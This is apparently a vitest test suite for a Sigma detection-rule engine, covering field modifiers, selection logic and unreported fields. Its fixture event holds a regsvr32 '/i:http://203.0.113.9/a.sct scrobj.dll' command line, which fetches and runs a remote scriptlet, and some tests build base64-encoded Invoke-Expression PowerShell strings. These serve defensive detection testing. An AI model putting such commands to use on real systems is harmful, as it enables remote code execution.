import { describe, expect, test } from 'vitest'
import type { SigmaFields } from './check'
import { exampleRule } from './example-rule'
import { isHit } from './rule-engine'

const REGSVR: SigmaFields = {
  image: 'C:\\Windows\\System32\\regsvr32.exe',
  originalfilename: 'REGSVR32.EXE',
  commandline: 'regsvr32 /s -u /i:http://203.0.113.9/a.sct scrobj.dll',
  currentdirectory: undefined,
  parentimage: 'C:\\Program Files\\Microsoft Office\\WINWORD.EXE',
  parentcommandline: null,
  user: 'CORP\\ada',
  integritylevel: 'medium',
  logonid: '0x3e7',
  hashes: 'MD5=0123456789abcdef0123456789abcdef',
}

function hit(detection: string, fields: SigmaFields = REGSVR): boolean {
  const written = detection.includes('condition:') ? detection : `${detection}\ncondition: selection`
  return isHit(exampleRule(written), { category: 'process_creation', product: 'windows', fields })
}

function check(field: string, value: string): boolean {
  return hit(`selection:\n  ${field}: ${value}`)
}

describe('modifiers', () => {
  test.each([
    ['Image', "'C:\\Windows\\System32\\REGSVR32.exe'", true],
    ['Image', "'*\\regsvr32.exe'", true],
    ['Image|endswith', "'\\regsvr32.exe'", true],
    ['Image|endswith', "'\\svr32.exe'", false],
    ['Image|startswith', "'c:\\windows\\'", true],
    ['CommandLine|contains', "'HTTP:'", true],
    ['CommandLine|contains', '[absent, scrobj]', true],
    ['CommandLine|contains|all', '[scrobj, /s]', true],
    ['CommandLine|all|contains', '[scrobj, absent]', false],
    ['CommandLine|contains|cased', 'SCROBJ', false],
    ['CommandLine|contains|cased', 'scrobj', true],
    ['CommandLine|contains|windash', "' -s '", true],
    ['CommandLine|windash|contains', "' /u '", true],
    ['CommandLine|contains', "' -s '", false],
    ['CommandLine|re', "'/i:https?://[0-9.]+/'", true],
    ['CommandLine|re', "'REGSVR32'", false],
    ['CommandLine|re|i', "'REGSVR32'", true],
    ['CommandLine|re', "'^scrobj'", false],
    ['CommandLine|neq', "'something else'", true],
    ['OriginalFileName|neq', "'regsvr32.exe'", false],
    ['OriginalFileName|neq', '[a.exe, regsvr32.exe]', false],
    ['User|exists', 'true', true],
    ['User|exists', 'false', false],
    ['ParentCommandLine|exists', 'false', true],
    ['OriginalFileName|fieldref', 'OriginalFileName', true],
    ['OriginalFileName|fieldref', 'Image', false],
    ['Image|fieldref|endswith', 'OriginalFileName', true],
    ['IntegrityLevel', '[System, Medium]', true],
    ['LogonId', "'0x3E7'", true],
    ['Hashes|contains', "'MD5=0123456789ABCDEF0123456789ABCDEF'", true],
    ['NewProcessName|endswith', 'regsvr32.exe', true],
  ])('%s: %s is %s', (field, value, expected) => {
    expect(check(field, value)).toBe(expected)
  })

  test('regular expressions take the flags of the specification', () => {
    const fields = { commandline: 'first\nsecond' }
    expect(hit("selection:\n  CommandLine|re|m: '^second$'", fields)).toBe(true)
    expect(hit("selection:\n  CommandLine|re: '^second$'", fields)).toBe(false)
    expect(hit("selection:\n  CommandLine|re|s: 'first.second'", fields)).toBe(true)
    expect(hit("selection:\n  CommandLine|re: 'first.second'", fields)).toBe(false)
    expect(hit("selection:\n  CommandLine|re|i|s: 'FIRST.second'", fields)).toBe(true)
  })

  test('Base64 is found at every offset, in UTF-16 too', () => {
    for (const before of ['', 'a', 'ab', 'abc']) {
      const text = `${before}Invoke-Expression${'xyz'.slice(before.length)}`
      const narrow = { commandline: `powershell ${Buffer.from(text).toString('base64')}` }
      const wide = { commandline: `powershell -enc ${Buffer.from(text, 'utf16le').toString('base64')}` }
      expect(hit('selection:\n  CommandLine|base64offset|contains: Invoke-Expression', narrow)).toBe(true)
      expect(hit('selection:\n  CommandLine|wide|base64offset|contains: Invoke-Expression', wide)).toBe(true)
      expect(hit('selection:\n  CommandLine|utf16le|base64offset|contains: Invoke-Expression', narrow)).toBe(
        false,
      )
    }
    const whole = { commandline: Buffer.from('whoami').toString('base64') }
    expect(hit('selection:\n  CommandLine|base64: whoami', whole)).toBe(true)
    const big = { commandline: Buffer.from('who', 'utf16le').swap16().toString('base64') }
    expect(hit('selection:\n  CommandLine|utf16be|base64: who', big)).toBe(true)
    const marked = { commandline: Buffer.from('\ufeffwho', 'utf16le').toString('base64') }
    expect(hit('selection:\n  CommandLine|utf16|base64: who', marked)).toBe(true)
  })

  test.each([
    ['10.0.0.0/8', '10.200.3.4', true],
    ['10.0.0.0/8', '11.0.0.1', false],
    ['10.0.0.0/8', '::ffff:10.1.2.3', true],
    ["'fe80::/10'", 'fe80::1', true],
    ["'fe80::/10'", '10.0.0.1', false],
    ['203.0.113.9', '203.0.113.9', true],
    ['10.0.0.0/8', 'no address', false],
  ])('cidr %s with %s is %s', (range, address, expected) => {
    const rule = exampleRule(`selection:\n  DestinationIp|cidr: ${range}\ncondition: selection`, {
      category: 'network_connection',
    })
    expect(
      isHit(rule, { category: 'network_connection', product: 'windows', fields: { destinationip: address } }),
    ).toBe(expected)
  })

  test.each([
    ['lt', 443, false],
    ['lte', 443, true],
    ['gt', 442, true],
    ['gte', 444, false],
  ])('443 %s %d is %s', (modifier, value, expected) => {
    const rule = exampleRule(`selection:\n  DestinationPort|${modifier}: ${value}\ncondition: selection`, {
      category: 'network_connection',
    })
    const fields = { destinationport: '443' }
    expect(isHit(rule, { category: 'network_connection', product: 'windows', fields })).toBe(expected)
  })
})

describe('structures', () => {
  test.each([
    [
      'fields of a map are all meant',
      'selection:\n  Image|endswith: regsvr32.exe\n  CommandLine|contains: absent',
      false,
    ],
    [
      'maps of a list are alternatives',
      'selection:\n  - Image|endswith: absent\n  - OriginalFileName: regsvr32.exe',
      true,
    ],
    ['keywords stand in any field', 'selection:\n  - absent\n  - winword', true],
    ['keywords can all be meant', "selection:\n  '|all':\n    - winword\n    - scrobj", true],
    ['keywords are all missed if one is', "selection:\n  '|all':\n    - winword\n    - absent", false],
    ['numbers and truth values are texts', 'selection:\n  CommandLine|contains: 203', true],
    [
      'a list of conditions is any of them',
      'a:\n  Image: x\nb:\n  Image|endswith: .exe\ncondition:\n  - a\n  - b',
      true,
    ],
    ['1 of a pattern', 's_a:\n  Image: x\ns_b:\n  Image|endswith: .exe\ncondition: 1 of s_*', true],
    ['all of a pattern', 's_a:\n  Image: x\ns_b:\n  Image|endswith: .exe\ncondition: all of s_*', false],
    [
      'them leaves out identifiers with _',
      '_a:\n  Image: x\ns_b:\n  Image|endswith: .exe\ncondition: all of them',
      true,
    ],
    [
      'filters take away',
      's:\n  Image|endswith: .exe\nf:\n  User|contains: ada\ncondition: s and not 1 of f*',
      false,
    ],
  ])('%s', (_, detection, expected) => {
    expect(hit(detection)).toBe(expected)
  })
})

describe('what is not reported is unknown', () => {
  test.each([
    ['a question about it is no hit', 'selection:\n  CurrentDirectory|contains: temp', false],
    ['nor is the opposite', 's:\n  CurrentDirectory|contains: temp\ncondition: not s', false],
    ['nor that it is null', 'selection:\n  CurrentDirectory: null', false],
    ['nor that it does not exist', 'selection:\n  CurrentDirectory|exists: false', false],
    [
      'a hit that does not depend on it stays',
      's:\n  Image|endswith: .exe\nt:\n  CurrentDirectory: x\ncondition: s or t',
      true,
    ],
    [
      'a filter that asks for it does not let the rule hit',
      's:\n  Image|endswith: .exe\nt:\n  CurrentDirectory: x\ncondition: s and not t',
      false,
    ],
    ['reported and empty is null', 'selection:\n  ParentCommandLine: null', true],
    ['reported and empty is the empty text', "selection:\n  ParentCommandLine: ''", true],
    ['reported and empty is no text', 's:\n  ParentCommandLine|contains: x\ncondition: not s', true],
    ['reported and empty is not anything', "selection:\n  ParentCommandLine: '*'", false],
    ['something is not null', 's:\n  Image: null\ncondition: not s', true],
    ['a list can hold null', 'selection:\n  ParentCommandLine:\n    - null\n    - x', true],
  ])('%s', (_, detection, expected) => {
    expect(hit(detection)).toBe(expected)
  })

  test('rules of other products and categories are no hits', () => {
    const rule = exampleRule('s:\n  Image|endswith: .exe\ncondition: s', { product: 'macos' })
    expect(isHit(rule, { category: 'process_creation', product: 'windows', fields: REGSVR })).toBe(false)
    const any = exampleRule('s:\n  Image|endswith: .exe\ncondition: s', { category: 'image_load' })
    expect(isHit(any, { category: 'process_creation', product: 'windows', fields: REGSVR })).toBe(false)
  })
})
